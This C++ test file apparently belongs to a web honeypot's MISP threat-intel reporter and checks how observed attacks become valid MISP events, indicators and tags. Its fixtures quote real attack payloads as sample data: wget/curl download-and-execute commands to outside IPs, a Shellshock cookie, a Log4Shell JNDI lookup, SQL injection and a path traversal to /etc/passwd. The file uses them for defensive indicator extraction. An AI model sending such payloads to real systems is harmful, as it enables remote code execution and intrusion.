// The MISP model (src/intel/aggregate.h, misp_model.h, misp_json.h) validated against MISP's own
// rules (misp_checks.h): category/type pairs and value formats from describeTypes, object
// templates, the lax JSON schema, and every tag in the taxonomies or the galaxy. The oracle is
// first shown to accept MISP's own example events and to reject broken ones.
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <nlohmann/json.hpp>

#include "http/ip_match.h"
#include "intel/aggregate.h"
#include "intel/misp_json.h"
#include "intel/misp_model.h"
#include "intel/uuid5.h"
#include "misp_checks.h"
#include "test_events.h"

namespace drosera::intel {
namespace {

using nlohmann::json;
using testutil::MispRules;

// Folds events the way the reporter does (no filtering here: only accepted events are given).
DayPart fold(const std::vector<core::Event>& events, const FoldOptions& o = {}) {
  DayPart p;
  p.group = "hp-web-01";
  p.date = utcDate(events.front().time_us);
  FoldOptions opts = o;
  uint64_t seq = 0;
  for (const auto& e : events) {
    const Evidence ev = evidenceOf(e, opts);
    foldEvent(p, e, http::canonicalIp(e.src_ip), ev, ++seq, 1741996800, opts);
  }
  return p;
}

ModelOptions options() {
  ModelOptions o;
  o.namespace_uuid = testutil::kNamespace;
  o.org_name = "Example Honeypot Operator";
  o.org_uuid = testutil::kOrgUuid;
  o.honeypot_tags = MispConfig().honeypot_tags;
  return o;
}

std::vector<core::Event> accepted() {
  std::vector<core::Event> out;
  for (auto& e : testutil::dayOfAttacks()) {
    if (e.sensor != "hp-web-01") continue;
    const auto& bad = testutil::forbiddenAddresses();
    if (std::find(bad.begin(), bad.end(), e.src_ip) != bad.end()) continue;
    out.push_back(e);
  }
  return out;
}

const json* findAttr(const json& ev, const std::string& type, const std::string& value) {
  for (const auto& a : ev["Event"]["Attribute"]) {
    if (a["type"] == type && a["value"] == value) return &a;
  }
  return nullptr;
}

std::vector<std::string> tagNames(const json& holder) {
  std::vector<std::string> out;
  for (const auto& t : holder.value("Tag", json::array())) out.push_back(t["name"]);
  return out;
}

TEST(OracleTest, SchemaCheckerKnowsEveryKeywordOfSchemaLax) {
  EXPECT_THAT(MispRules::get().laxSchema().unsupportedKeywords(), ::testing::IsEmpty());
}

TEST(OracleTest, AcceptsMispsOwnExamples) {
  const std::string dir = testutil::mispDataDir() + "/examples/";
  for (const char* f : {"minimal-event.json", "rich-web-honeypot-event.json",
                        "feed/0664ebb2-2244-5b09-888b-68a27bed2250.json"}) {
    EXPECT_THAT(MispRules::get().checkEvent(testutil::readJsonFile(dir + f)), ::testing::IsEmpty())
        << f;
  }
}

TEST(OracleTest, RejectsBrokenEvents) {
  json ev =
      testutil::readJsonFile(testutil::mispDataDir() + "/examples/rich-web-honeypot-event.json");
  const auto broken = [&](auto mutate) {
    json copy = ev;
    mutate(copy["Event"]);
    return !MispRules::get().checkEvent(copy).empty();
  };
  EXPECT_TRUE(broken([](json& e) { e["Attribute"][0]["category"] = "Payload type"; }));
  EXPECT_TRUE(broken([](json& e) { e["Attribute"][0]["value"] = "203.0.113.999"; }));
  EXPECT_TRUE(broken([](json& e) { e["Attribute"][0]["to_ids"] = "1"; }));  // schema: boolean
  EXPECT_TRUE(broken([](json& e) { e["Tag"][0]["name"] = "HoneytrapEvent"; }));
  EXPECT_TRUE(broken([](json& e) { e["Object"][0]["template_version"] = "3"; }));
  EXPECT_TRUE(broken([](json& e) { e["Object"][0]["Attribute"][2]["value"] = "FETCH"; }));
  EXPECT_TRUE(broken(
      [](json& e) { e["Object"][1]["Attribute"].push_back(e["Object"][1]["Attribute"][3]); }));
  EXPECT_TRUE(broken([](json& e) { e["Attribute"].push_back(e["Attribute"][0]); }));
  EXPECT_TRUE(broken([](json& e) { e["threat_level_id"] = "7"; }));
  EXPECT_TRUE(broken([](json& e) { e["info"] = 5; }));  // schema: string
}

TEST(ModelTest, DayOfAttacksIsValidMispInBothForms) {
  auto cat = testutil::catalog();
  DayPart p = fold(accepted());
  MispEvent ev = buildEvent(p, options(), cat);
  const json core = json::parse(coreEventJson(ev));
  EXPECT_THAT(MispRules::get().checkEvent(core), ::testing::IsEmpty()) << core.dump(2);
  const json feed =
      json::parse(feedEventJson(ev, [&](const std::string& t) { return cat.tagColour(t); }));
  EXPECT_THAT(MispRules::get().checkEvent(feed), ::testing::IsEmpty());
  EXPECT_FALSE(feed["Event"].contains("distribution"));  // the consuming MISP decides
  EXPECT_EQ(core["Event"]["distribution"], "0");
}

TEST(ModelTest, EventFields) {
  auto cat = testutil::catalog();
  DayPart p = fold(accepted());
  MispEvent ev = buildEvent(p, options(), cat);
  EXPECT_EQ(ev.uuid, uuid5(testutil::kNamespace, "hp-web-01|2025-03-14"));
  EXPECT_EQ(ev.info, "Web honeypot hp-web-01: attacks observed 2025-03-14");
  EXPECT_EQ(ev.date, "2025-03-14");
  EXPECT_EQ(ev.analysis, 1);  // ongoing while the day is open
  EXPECT_EQ(ev.threat_level_id, 3);
  p.closed = true;
  EXPECT_EQ(buildEvent(p, options(), cat).analysis, 2);
  p.part = 2;
  EXPECT_EQ(buildEvent(p, options(), cat).info,
            "Web honeypot hp-web-01: attacks observed 2025-03-14 (part 2)");
  EXPECT_NE(buildEvent(p, options(), cat).uuid, ev.uuid);
}

TEST(ModelTest, OneIpSrcPerAttackerWithCountsCategoriesAndSeenTimes) {
  auto cat = testutil::catalog();
  const json ev = json::parse(coreEventJson(buildEvent(fold(accepted()), options(), cat)));
  const json* a = findAttr(ev, "ip-src", testutil::kSqli);
  ASSERT_NE(a, nullptr);
  EXPECT_EQ((*a)["category"], "Network activity");
  EXPECT_EQ((*a)["to_ids"], true);  // exploit evidence
  EXPECT_EQ(
      (*a)["comment"],
      "hp-web-01: 3 requests, CRS categories: attack-lfi, attack-sqli; rules: 930120, 942100");
  EXPECT_EQ((*a)["first_seen"], "2025-03-14T10:00:00+00:00");
  EXPECT_EQ((*a)["last_seen"], "2025-03-14T11:00:00+00:00");
  EXPECT_EQ((*a)["uuid"], attributeUuid(ev["Event"]["uuid"], "ip-src", testutil::kSqli));
  EXPECT_THAT(
      tagNames(*a),
      ::testing::UnorderedElementsAre(
          "rsit:intrusion-attempts=\"exploit\"", "circl:incident-classification=\"sql-injection\"",
          "misp-galaxy:mitre-attack-pattern=\"Exploit Public-Facing Application - T1190\"",
          "misp-galaxy:mitre-attack-pattern=\"File and Directory Discovery - T1083\""));
  int ip_src = 0;
  for (const auto& x : ev["Event"]["Attribute"]) ip_src += x["type"] == "ip-src";
  EXPECT_EQ(ip_src, 4);  // sqli, rce, scanner, v6 (plain traffic is not reported)
  EXPECT_EQ(findAttr(ev, "ip-src", "77.88.5.5"), nullptr);
}

TEST(ModelTest, ToIdsOnlyOnExploitEvidence) {
  auto cat = testutil::catalog();
  const json ev = json::parse(coreEventJson(buildEvent(fold(accepted()), options(), cat)));
  EXPECT_EQ((*findAttr(ev, "ip-src", testutil::kRce))["to_ids"], true);
  const json* scanner = findAttr(ev, "ip-src", testutil::kScanner);
  ASSERT_NE(scanner, nullptr);
  EXPECT_EQ((*scanner)["to_ids"], false);  // reconnaissance traps only
  const json* v6 = findAttr(ev, "ip-src", testutil::kV6);
  ASSERT_NE(v6, nullptr);
  EXPECT_EQ((*v6)["to_ids"], false);  // a protocol anomaly only
  EXPECT_THAT(tagNames(*v6), ::testing::ElementsAre("rsit:intrusion-attempts=\"ids-alert\""));
}

TEST(ModelTest, PayloadUrlsBecomeUrlAttributesForIds) {
  auto cat = testutil::catalog();
  const json ev = json::parse(coreEventJson(buildEvent(fold(accepted()), options(), cat)));
  for (const char* u : {"http://45.61.185.23/bins/x86.sh", "ldap://payload.example.net:1389/a"}) {
    const json* a = findAttr(ev, "url", u);
    ASSERT_NE(a, nullptr) << u;
    EXPECT_EQ((*a)["category"], "Payload delivery");
    EXPECT_EQ((*a)["to_ids"], true);
    EXPECT_THAT(
        tagNames(*a),
        ::testing::Contains("misp-galaxy:mitre-attack-pattern=\"Ingress Tool Transfer - T1105\""));
  }
}

// A URL counts when it is part of the attack: in the target, the body, or a header's command or
// lookup. A URL that merely is a header value (a scanner's home page in its User-Agent, a search
// in a Referer, an Origin) is no payload and never an IDS indicator.
TEST(ModelTest, UrlsInHeadersArePayloadsOnlyInsideACommandOrLookup) {
  core::Event e = testutil::event("hp-web-01", testutil::kRce, testutil::kDay, "POST",
                                  "/cgi-bin/x?cmd=wget%20http://45.61.185.23/x86%2Barm.sh",
                                  {testutil::rule(932100, "Remote Command Execution")});
  e.request_headers = {
      {"Host", "shop.example.com"},
      {"User-Agent",
       "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"},
      {"Referer", "https://www.google.com/search?q=shop"},
      {"Origin", "https://origin.example.org"},
      {"Content-Type", "Application/X-WWW-Form-Urlencoded; charset=utf-8"},
      {"X-Api-Version", "v1 https://docs.example.org/ ${jndi:ldap://45.61.185.24:1389/b}"},
      {"Cookie", "() { :; }; /bin/bash -c 'curl http://45.61.185.25/s.sh|sh'"}};
  e.request_body = "c=wget+http://45.61.185.26/a%2Bb.sh";
  const Evidence ev = evidenceOf(e, FoldOptions{});
  EXPECT_THAT(ev.payload_urls,
              ::testing::ElementsAre("http://45.61.185.23/x86+arm.sh", "http://45.61.185.26/a+b.sh",
                                     "ldap://45.61.185.24:1389/b", "http://45.61.185.25/s.sh"));
}

TEST(ModelTest, ABodyWithoutContentTypeIsDecodedAsAForm) {
  // Exploit scripts post "cmd=wget+http://..." without a Content-Type: '+' is a space there,
  // or the URL reported would run on into the command ("http://5.6.7.8/bins.sh+-O-").
  core::Event e = testutil::event("hp-web-01", testutil::kRce, testutil::kDay, "POST", "/GponForm",
                                  {testutil::rule(932100, "Remote Command Execution")});
  e.request_headers = {{"Host", "shop.example.com"},
                       {"SOAPAction", "http://purenetworks.com/HNAP1/`wget http://5.6.7.9/h.sh`"}};
  e.request_body = "dest_host=`busybox+wget+http://5.6.7.8/bins.sh+-O+/tmp/gaf;sh+/tmp/gaf`";
  const Evidence ev = evidenceOf(e, FoldOptions{});
  EXPECT_THAT(ev.payload_urls,
              ::testing::ElementsAre("http://5.6.7.8/bins.sh", "http://5.6.7.9/h.sh"));
}

TEST(ModelTest, HttpRequestObjectsFollowTheTemplateAndAreBounded) {
  auto cat = testutil::catalog();
  std::vector<core::Event> many;
  for (int i = 0; i < 20; ++i) {
    many.push_back(testutil::event("hp-web-01", testutil::kSqli, testutil::kDay + i * 1000000,
                                   "GET", "/p?id=" + std::to_string(i) + "'",
                                   {testutil::rule(942100, "SQL Injection")}));
  }
  many.push_back(testutil::event("hp-web-01", testutil::kSqli, testutil::kDay + 30000000, "GET",
                                 "/p?f=../../etc/passwd", {testutil::rule(930120, "LFI")}));
  FoldOptions o;
  o.max_requests_per_ip = 3;
  MispEvent ev = buildEvent(fold(many, o), options(), cat);
  // One per new class (sqli, then lfi), not one per request.
  ASSERT_EQ(ev.objects.size(), 2u);
  const json doc = json::parse(coreEventJson(ev));
  EXPECT_THAT(MispRules::get().checkEvent(doc), ::testing::IsEmpty());
  const auto& obj = doc["Event"]["Object"][0];
  EXPECT_EQ(obj["name"], "http-request");
  std::map<std::string, std::string> rel;
  for (const auto& a : obj["Attribute"]) rel[a["object_relation"]] = a["value"];
  EXPECT_EQ(rel["ip-src"], testutil::kSqli);
  EXPECT_EQ(rel["method"], "GET");
  EXPECT_EQ(rel["uri"], "/p?id=0'");
  EXPECT_EQ(rel.count("host"), 0u);    // the sensor's own name is never reported
  EXPECT_EQ(rel.count("ip-dst"), 0u);  // nor its address
  EXPECT_THAT(rel["text"], ::testing::HasSubstr("CRS 942100 attack-sqli"));

  // A bound of 1 keeps one.
  o.max_requests_per_ip = 1;
  EXPECT_EQ(buildEvent(fold(many, o), options(), cat).objects.size(), 1u);
}

TEST(ModelTest, CredentialsAreNotSharedByDefault) {
  auto cat = testutil::catalog();
  const auto events = accepted();
  const std::string doc = coreEventJson(buildEvent(fold(events), options(), cat));
  EXPECT_EQ(doc.find("hunter2"), std::string::npos);  // neither as a value nor in a uri
  FoldOptions share;
  share.share_credentials = true;
  const json shared = json::parse(coreEventJson(buildEvent(fold(events, share), options(), cat)));
  const json* a = findAttr(shared, "text", "admin:hunter2");
  ASSERT_NE(a, nullptr);
  EXPECT_EQ((*a)["to_ids"], false);
  EXPECT_THAT(MispRules::get().checkEvent(shared), ::testing::IsEmpty());
}

TEST(ModelTest, EventTagsCarryTlpPapSensorAndWhatWasSeen) {
  auto cat = testutil::catalog();
  ModelOptions o = options();
  o.tlp = "tlp:clear";
  o.pap = "PAP:CLEAR";
  const MispEvent ev = buildEvent(fold(accepted()), o, cat);
  EXPECT_EQ(ev.tags[0], "tlp:clear");
  EXPECT_EQ(ev.tags[1], "PAP:CLEAR");
  EXPECT_THAT(ev.tags, ::testing::Contains("honeypot-basic:interaction-level=\"low\""));
  EXPECT_THAT(
      ev.tags,
      ::testing::Contains(
          "misp-galaxy:mitre-attack-pattern=\"Exploit Public-Facing Application - T1190\""));
  EXPECT_THAT(
      ev.tags,
      ::testing::Contains("misp-galaxy:mitre-attack-pattern=\"Credentials In Files - T1552.001\""));
  EXPECT_THAT(ev.tags, ::testing::Contains("rsit:information-gathering=\"scanner\""));
  for (const auto& t : ev.tags) EXPECT_TRUE(MispRules::get().tagExists(t)) << t;
  EXPECT_THAT(ev.tags, ::testing::Not(::testing::Contains("HoneytrapEvent")));
}

TEST(ModelTest, HostileBytesStayValid) {
  auto cat = testutil::catalog();
  std::vector<core::Event> evil;
  core::Event e = testutil::event("hp-web-01", testutil::kSqli, testutil::kDay, "GET",
                                  std::string("/\xFF\xFE?\x00a=\n\r'", 9),
                                  {testutil::rule(942100, std::string("msg\xC0\x80\n", 6))});
  e.user_agent = std::string("UA\xF0\x9F\x98\x80\n\x01\xFF", 10);
  e.request_headers = {{"Content-Type", "text/\xFFhtml\r\n"}};
  evil.push_back(e);
  const std::string doc = coreEventJson(buildEvent(fold(evil), options(), cat));
  const json j = json::parse(doc);  // valid JSON
  EXPECT_THAT(MispRules::get().checkEvent(j), ::testing::IsEmpty()) << j.dump(2);
}

TEST(ModelTest, FoldIsIdempotentPerSeq) {
  // The reporter skips events with seq <= applied_seq; the aggregate remembers it.
  DayPart p = fold(accepted());
  EXPECT_EQ(p.applied_seq, accepted().size());
  const std::string once = serializePart(p);
  auto back = parsePart(once);
  ASSERT_TRUE(back.isOk());
  EXPECT_EQ(serializePart(*back), once);
  EXPECT_NE(back->findIp(testutil::kSqli), nullptr);
}

TEST(ModelTest, TimestampGrowsWithEveryChange) {
  DayPart p;
  touch(p, 1000);
  EXPECT_EQ(p.timestamp, 1000);
  EXPECT_EQ(p.version, 1u);
  touch(p, 1000);  // same batch: no new version
  EXPECT_EQ(p.version, 1u);
  p.touched = false;
  touch(p, 900);  // a clock that went back still gives a newer timestamp
  EXPECT_EQ(p.timestamp, 1001);
  EXPECT_EQ(p.version, 2u);
}

TEST(ModelTest, UtcDays) {
  EXPECT_EQ(utcDate(testutil::kDay), "2025-03-14");
  EXPECT_EQ(utcDate(testutil::kDay - 1), "2025-03-13");
  EXPECT_EQ(endOfDayUs("2025-03-14"), testutil::kDay + 24 * testutil::kHour);
  EXPECT_EQ(endOfDayUs("garbage"), 0);
  EXPECT_EQ(isoTime(testutil::kDay + 1), "2025-03-14T00:00:00.000001+00:00");
}

TEST(ModelTest, HashLinesAndManifestEntryMatchTheExampleFeedFormat) {
  auto cat = testutil::catalog();
  MispEvent ev = buildEvent(fold(accepted()), options(), cat);
  const auto lines = hashLines(ev);
  size_t values = ev.attributes.size();
  for (const auto& o : ev.objects) values += o.attributes.size();
  ASSERT_EQ(lines.size(), values);
  EXPECT_EQ(lines[0], md5Hex(ev.attributes[0].value) + "," + ev.uuid);
  EXPECT_EQ(md5Hex("203.0.113.45"), "1b500f20cd7bdb9de3b79396ac83b9cd");  // example hashes.csv
  const json m =
      json::parse(manifestEntryJson(ev, [&](const std::string& t) { return cat.tagColour(t); }));
  const json example =
      testutil::readJsonFile(testutil::mispDataDir() + "/examples/feed/manifest.json");
  const json& ex = example.begin().value();
  std::vector<std::string> keys, ex_keys;
  for (const auto& [k, v] : m.items()) keys.push_back(k);
  for (const auto& [k, v] : ex.items()) ex_keys.push_back(k);
  std::sort(keys.begin(), keys.end());
  std::sort(ex_keys.begin(), ex_keys.end());
  EXPECT_EQ(keys, ex_keys);
  EXPECT_TRUE(m["analysis"].is_number_integer());
  EXPECT_TRUE(m["timestamp"].is_number_integer());
  for (const auto& [k, v] : ex["Tag"][0].items()) EXPECT_TRUE(m["Tag"][0].contains(k)) << k;
}

}  // namespace
}  // namespace drosera::intel
